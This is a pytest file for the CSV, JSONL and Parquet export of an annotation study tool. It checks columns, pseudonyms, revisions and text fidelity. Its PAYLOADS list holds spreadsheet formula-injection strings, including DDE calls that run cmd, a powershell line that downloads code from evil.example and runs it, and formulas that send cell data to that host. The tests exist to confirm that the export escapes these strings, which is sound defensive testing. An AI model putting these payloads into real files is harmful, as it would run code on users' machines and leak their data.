"""The export: every judgement once for each system behind it, blind to nothing, safe to open."""

import csv
import hashlib
import io
import json
from datetime import datetime

import pyarrow.parquet as pq
import pytest
from sqlalchemy.orm import Session

from app.analysis.evidence import Evidence
from app.annotation import verdicts
from app.annotation.claims import claim
from app.errors import NotFoundError
from app.export.formats import FileFormat
from app.export.query import COLUMNS, GUARDED, TEXT_COLUMNS, ExportFilter, check_filter
from app.export.streaming import Export, ExportOrder
from app.models import Person, Study
from app.models.annotation import SkipReason, VerdictShown
from tests.factories import (
    make_candidacy,
    make_checkpoint,
    make_comparison,
    make_continuation,
    make_dataset,
    make_passage,
    make_person,
    make_pool,
    make_study,
    make_system,
)

# What spreadsheets run, and have run: formulas, calls of other programs, and characters that hide either.
PAYLOADS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
    '=WEBSERVICE("https://evil.example/"&A1)',
    '=DDE("cmd";"/C calc";"x")',
    "=2+5+cmd|'/C powershell IEX(wget evil.example/x)'!A0",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '="a"&"b"',
    "=\t1+1",
    "==1+1",
    "+1+1",
    "+cmd|'/C calc'!A0",
    "-1+1",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1+1)",
    '=1+1","=2+2',
    "=1+1\n=2+2",
]


def exported(session: Session, study: Study, **order: object) -> bytes:
    return b"".join(Export(study, ExportOrder(**order)).pieces(session))  # type: ignore[arg-type]


def read_csv(session: Session, study: Study, **order: object) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(exported(session, study, **order).decode(), newline="")))


def judge(session: Session, study: Study, annotator: Person, verdict: VerdictShown = VerdictShown.FIRST) -> None:
    held = claim(session, study, annotator.id)
    assert held.shown is not None
    verdicts.record_verdict(session, annotator.id, held.shown, verdicts.Answer(verdict, 5))


def test_the_columns_are_the_contract(session: Session) -> None:
    study = make_pool(session)
    assert exported(session, study).decode() == ",".join(COLUMNS) + "\n"
    assert exported(session, study, texts=True).decode() == ",".join(COLUMNS + TEXT_COLUMNS) + "\n"


def test_a_row_says_what_was_shown_and_what_it_means(session: Session) -> None:
    study, annotator = make_pool(session, passages=1), make_person(session)
    judge(session, study, annotator, VerdictShown.SECOND)

    (row,) = read_csv(session, study)

    other = {"candidate": "reference", "reference": "candidate"}[row["shown_first"]]
    assert (row["verdict_shown"], row["verdict"], row["status"]) == ("second", other, "counted")
    assert (row["reference"], row["decoding"], row["citation_blocked"]) == ("original", "greedy", "f")
    assert row["shown_at"] <= row["answered_at"]
    assert annotator.email not in str(row)
    assert row["annotator"] != str(annotator.id)


def test_an_annotator_has_another_pseudonym_in_each_study(session: Session) -> None:
    annotator, studies = make_person(session), [make_pool(session), make_pool(session)]
    for study in studies:
        judge(session, study, annotator)
        judge(session, study, annotator)
    names = [{row["annotator"] for row in read_csv(session, study)} for study in studies]
    assert [len(one) for one in names] == [1, 1]
    assert names[0] != names[1]


def test_a_revision_and_a_skip_are_rows_too(session: Session) -> None:
    study, annotator = make_pool(session), make_person(session)
    held = claim(session, study, annotator.id)
    assert held.shown is not None
    verdicts.record_verdict(session, annotator.id, held.shown, verdicts.Answer(VerdictShown.FIRST))
    verdicts.revise_verdict(session, annotator.id, held.shown, verdicts.Answer(VerdictShown.EQUAL))
    held = claim(session, study, annotator.id)
    assert held.shown is not None
    verdicts.skip(session, annotator.id, held.shown, SkipReason.HARMFUL)

    rows = read_csv(session, study)

    assert [(row["status"], row["verdict_shown"]) for row in rows] == [
        ("superseded", "first"),
        ("counted", "equal"),
        ("skipped", ""),
    ]


def test_systems_that_wrote_the_same_have_a_row_each(session: Session) -> None:
    study = make_study(session)
    passage = make_passage(session, make_dataset(session, study))
    comparison = make_comparison(session, passage)
    for name in ("one", "two"):
        continuation = make_continuation(session, make_system(session, study, name=name), passage)
        make_candidacy(session, continuation, comparison)
    judge(session, study, make_person(session))

    rows = read_csv(session, study)

    assert [row["system"] for row in rows] == ["one", "two"]
    assert len({row["annotation_id"] for row in rows}) == 1


def test_a_spreadsheet_runs_nothing_in_any_column_of_text(session: Session) -> None:
    study = make_study(session)
    dataset, annotator = make_dataset(session, study), make_person(session)
    for nth, payload in enumerate(PAYLOADS):
        passage = make_passage(session, dataset, context=payload)
        comparison = make_comparison(session, passage, candidate_text=payload, reference_text=payload)
        checkpoint = make_checkpoint(session, name=f"{payload} {nth}")
        system = make_system(session, study, name=f"{payload} {nth}", checkpoint_id=checkpoint.id)
        make_candidacy(session, make_continuation(session, system, passage), comparison)
        judge(session, study, annotator)

    rows = read_csv(session, study, texts=True)

    assert len(rows) == len(PAYLOADS) >= 20
    columns = GUARDED - {"study", "dataset"}  # whose names the database keeps to letters, digits and hyphens
    for column in columns:
        cells = {row[column] for row in rows}
        assert {cell[0] for cell in cells} == {"'"}, column
        assert {
            cell[1:].rsplit(" ", 1)[0] if column in ("system", "checkpoint") else cell[1:] for cell in cells
        } == set(PAYLOADS)
    # programs that read JSON run no formulas, and get the text as it is
    lines = [
        json.loads(line) for line in exported(session, study, file_format=FileFormat.JSONL, texts=True).splitlines()
    ]
    assert {line["candidate_text"] for line in lines} == set(PAYLOADS)


def test_every_text_survives_in_every_format(session: Session) -> None:
    nasty = 'a "quoted", line\nand \\n backslash, \u2028, é, \U0001f600, \x01 and \x02'
    study = make_study(session)
    passage = make_passage(session, make_dataset(session, study), context=nasty)
    make_comparison(session, passage, candidate_text=nasty, reference_text="")
    judge(session, study, make_person(session))
    (row,) = read_csv(session, study, texts=True)
    assert (row["candidate_text"], row["reference_text"]) == (nasty, "")
    line = json.loads(exported(session, study, file_format=FileFormat.JSONL, texts=True).splitlines()[0])
    assert (line["context"], line["reference_text"], line["system"]) == (nasty, "", None)
    (typed,) = read_parquet(session, study, texts=True)
    assert (typed["context"], typed["reference_text"], typed["system"]) == (nasty, "", None)


def read_parquet(session: Session, study: Study, **order: object) -> list[dict[str, object]]:
    content = exported(session, study, file_format=FileFormat.PARQUET, **order)
    return pq.read_table(io.BytesIO(content)).to_pylist()  # type: ignore[no-any-return]


def test_the_formats_say_the_same(session: Session, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("app.domain.copying.PIECE", 400)  # so that a small study takes several pieces and groups
    monkeypatch.setattr("app.export.parquet.ROW_GROUP", 700)
    study, annotator = make_pool(session, passages=8, systems=2, scenarios=(128, 256)), make_person(session)
    for _ in range(6):
        judge(session, study, annotator)
    shown = claim(session, study, annotator.id).shown
    assert shown is not None
    verdicts.skip(session, annotator.id, shown, SkipReason.HARMFUL)
    lines = [json.loads(line) for line in exported(session, study, file_format=FileFormat.JSONL).splitlines()]
    typed = read_parquet(session, study)
    cells = read_csv(session, study)
    assert len(lines) == len(typed) == len(cells) == 7
    for line, values, row in zip(lines, typed, cells, strict=True):
        assert list(line) == list(values) == list(COLUMNS)
        for name in (
            "annotation_id",
            "system",
            "scenario",
            "verdict",
            "duration_ms",
            "candidate_ttr",
            "passage_exposure",
        ):
            assert line[name] == values[name]
            assert row[name] == ("" if line[name] is None else str(line[name]).removesuffix(".0"))
        assert values["answered_at"] == datetime.fromisoformat(line["answered_at"])


def test_an_empty_study_is_a_file_too(session: Session) -> None:
    study = make_pool(session)
    assert read_parquet(session, study) == []
    assert exported(session, study, file_format=FileFormat.JSONL) == b""


def test_each_choice_narrows_the_rows_down(session: Session) -> None:
    study = make_pool(session, passages=8, systems=2, scenarios=(128, 256))
    annotator = make_person(session)
    for _ in range(8):
        judge(session, study, annotator)
    every = read_csv(session, study)
    for kind, column in (
        ("systems", "system"),
        ("scenarios", "scenario"),
        ("statuses", "status"),
        ("datasets", "dataset"),
    ):
        for value in {row[column] for row in every}:
            choice = (int(value) if kind == "scenarios" else value,)
            wanted = ExportFilter(**{kind: choice})  # type: ignore[arg-type]
            check_filter(session, study, wanted)
            assert read_csv(session, study, wanted=wanted) == [row for row in every if row[column] == value]
    skipped = ExportFilter(statuses=("skipped", "gold"), scenarios=(128,))
    assert read_csv(session, study, wanted=skipped) == []


@pytest.mark.parametrize("kind", ["datasets", "systems", "statuses", "scenarios"])
def test_a_choice_of_what_is_not_there_is_named(session: Session, kind: str) -> None:
    with pytest.raises(NotFoundError, match=f"has no {kind} 'poems'"):
        check_filter(session, make_pool(session), ExportFilter(**{kind: ("poems",)}))  # type: ignore[arg-type]


def test_an_export_knows_what_it_came_to(session: Session) -> None:
    study = make_pool(session)
    judge(session, study, make_person(session))
    for file_format in FileFormat:
        export = Export(study, ExportOrder(file_format, wanted=ExportFilter(statuses=("counted",))))
        content = b"".join(export.pieces(session))
        assert export.facts == {
            "format": str(file_format),
            "texts": False,
            "statuses": ["counted"],
            "rows": 1,
            "bytes": len(content),
            "complete": True,
            "sha256": hashlib.sha256(content).hexdigest(),
        }


def test_the_ratios_follow_from_the_counted_rows(session: Session) -> None:
    study = make_pool(session, passages=6, systems=2, scenarios=(128, 256))
    for verdict in VerdictShown:
        annotator = make_person(session)
        for _ in range(5):
            judge(session, study, annotator, verdict)
    rows = [row for row in read_csv(session, study) if row["status"] == "counted"]
    assert len(rows) == 15
    for result in Evidence(session, study).preferences:
        mine = [
            row["verdict"]
            for row in rows
            if (row["system"], int(row["scenario"])) == (result.system.name, result.scenario)
        ]
        assert result.verdicts.n == len(mine)
        if mine:
            assert result.verdicts.preference_ratio == sum(one != "reference" for one in mine) / len(mine)
